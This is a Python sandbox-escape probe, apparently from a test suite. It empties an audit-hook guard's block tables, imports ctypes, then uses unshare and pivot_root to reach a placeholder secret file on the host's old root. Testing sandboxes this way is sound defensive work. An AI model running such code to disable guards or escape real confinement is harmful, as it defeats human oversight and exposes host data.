"""escape: pivot_root: probe it with paths that cannot exist (harmless anywhere), and in a
private mount namespace pivot into /work and look at the old root for host files.

Never pivots in a namespace it did not make: pivot_root there would move every process's root.
"""

import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

SECRET_FILE = "__SECRET_FILE__"
NR = {"x86_64": 155, "aarch64": 41}.get(os.uname().machine)
CLONE_NEWNS, CLONE_NEWUSER, MS_BIND, MS_REC, MS_PRIVATE = (
    0x20000,
    0x10000000,
    0x1000,
    0x4000,
    1 << 18,
)
libc = ctypes.CDLL(None, use_errno=True)
wins = []
if NR is None:
    print("unknown architecture")
else:
    if libc.syscall(NR, b"/nonexistent-new-root", b"/nonexistent-put-old") != 0:
        print(f"pivot_root probe: {os.strerror(ctypes.get_errno())}")
    private = False
    for flags in (CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWNS):
        if libc.unshare(flags) == 0:
            private = libc.mount(b"none", b"/", None, MS_REC | MS_PRIVATE, None) == 0
            break
        print(f"unshare({flags:#x}): {os.strerror(ctypes.get_errno())}")
    if private:
        new_root = os.path.abspath("newroot")
        os.makedirs(os.path.join(new_root, "old"), exist_ok=True)
        libc.mount(new_root.encode(), new_root.encode(), None, MS_BIND, None)
        os.chdir(new_root)
        if libc.syscall(NR, b".", b"old") == 0:
            wins.append("pivot_root in a private namespace")
            try:
                with open("/old" + SECRET_FILE, "rb") as f:
                    wins.append(f"old root shows {f.read()[-200:]!r}")
            except OSError as exc:
                print(f"old root: {exc.strerror}")
        else:
            print(f"pivot_root: {os.strerror(ctypes.get_errno())}")
if wins:
    print("ESCAPED: " + "; ".join(wins))
